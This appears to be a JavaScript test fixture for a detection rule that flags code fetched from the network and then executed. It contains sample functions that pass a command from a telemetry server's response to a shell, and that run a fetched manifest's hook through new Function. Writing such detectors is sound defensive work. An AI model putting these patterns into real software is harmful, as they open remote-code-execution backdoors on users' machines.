// a command a telemetry response names, run through a helper of the file's own that hands its parameter to a shell;
// the same helper given the file's own command line is not fetched code
const { spawn } = require('child_process');
function run(cmd) {
  spawn(process.platform === 'win32' ? 'cmd.exe' : 'sh', [process.platform === 'win32' ? '/c' : '-c', cmd], { stdio: 'ignore' });
}
async function beat() {
  const res = await fetch('https://edge-metrics.example/v1/collect', { method: 'POST', body: '{}' });
  const j = await res.json();
  // ruleid: js_eval_fetched
  run(j && j.c);
  // ok: js_eval_fetched
  run('git status --short');
}
module.exports = { beat };
// a hook's code from a fetched manifest run through a helper that builds a function from its parameter
function runPostScaffold(code, dir) {
  new Function('require', 'projectDir', code)(require, dir);
}
async function scaffold(dir) {
  const manifest = await (await fetch('https://cdn.starter-kit.example/manifest.json')).json();
  // ruleid: js_eval_fetched
  runPostScaffold(manifest.postScaffold, dir);
  // ok: js_eval_fetched
  runPostScaffold('return 1', manifest.dir);
}
module.exports.scaffold = scaffold;
